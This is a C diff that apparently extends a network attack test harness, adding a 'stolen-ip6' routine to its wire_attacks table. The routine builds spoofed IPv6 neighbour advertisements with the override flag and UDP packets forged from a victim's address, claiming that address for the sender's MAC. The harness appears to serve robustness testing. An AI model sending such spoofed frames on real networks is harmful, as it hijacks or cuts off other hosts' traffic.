@@ -129,6 +129,41 @@ static int stolen_ip(void)
 	return rest();
 }
 
+/* "The neighbour's IPv6 address is mine", to all and to it, and packets that it seems to have sent. */
+static int stolen_ip6(void)
+{
+	static const uint8_t all[6] = {0x33, 0x33, 0, 0, 0, 1}, group[16] = {0xff, 2, [15] = 1};
+	const uint8_t *mine = find_device(UIG_DEV_NET)->mac;
+	const char *text = getenv("VICTIM_IP6");
+	uint8_t ip[16];
+
+	if (know_victim() < 0 || !text || inet_pton(AF_INET6, text, ip) != 1)
+		return 98;
+	for (unsigned i = 0; i < FRAMES; i++) {
+		unsigned advert = i % 2;
+
+		address(i % 4 < 2 ? all : victim_mac, mine, 0x86dd);
+		uint8_t *p = frame + ETH;
+		memset(p, 0, 72);
+		p[0] = 0x60;
+		p[5] = 32;
+		p[6] = advert ? 58 : 17;
+		p[7] = 255;
+		memcpy(p + 8, ip, sizeof(ip));
+		memcpy(p + 24, group, sizeof(group));
+		if (advert) {
+			p[40] = 136; /* neighbour advertisement that overrides */
+			p[44] = 0x20;
+			memcpy(p + 48, ip, sizeof(ip));
+			p[64] = 2;
+			p[65] = 1;
+			memcpy(p + 66, mine, 6);
+		}
+		send_frame(ETH + 72);
+	}
+	return rest();
+}
+
 /* Every field of the header in front of the frame, and every length. */
 static int rubbish_frames(void)
 {
@@ -167,6 +202,7 @@ const struct attack wire_attacks[] = {
 	{"broadcast", broadcast},
 	{"stolen-mac", stolen_mac},
 	{"stolen-ip", stolen_ip},
+	{"stolen-ip6", stolen_ip6},
 	{"rubbish-frames", rubbish_frames},
 	{"datagrams", datagrams},
 	{0},
